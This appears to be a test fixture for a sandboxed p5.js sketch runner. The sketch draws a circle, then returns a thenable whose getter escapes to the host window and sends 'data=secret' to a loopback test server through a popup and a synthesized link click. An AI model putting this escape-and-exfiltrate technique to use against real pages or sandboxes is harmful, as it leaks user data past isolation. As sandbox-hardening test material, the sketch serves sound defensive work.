// Reaches a loopback server through a popup and a synthesized link click (PORT is filled in).
function setup() { createCanvas(600, 600, WEBGL); noLoop(); }
function draw() {
  translate(-width / 2, -height / 2);
  background("#f6efe2");
  brush.noStroke();
  brush.fill("#e2583e", 200);
  brush.circle(300, 300, 60);
  return {
    get then() {
      const w = noStroke().canvas.ownerDocument.defaultView;
      w.open("http://127.0.0.1:PORT/open?data=secret");
      const a = w.document.createElement("a");
      a.href = "http://127.0.0.1:PORT/anchor?data=secret";
      a.target = "_blank";
      w.document.body.appendChild(a);
      a.click();
      return undefined;
    },
  };
}
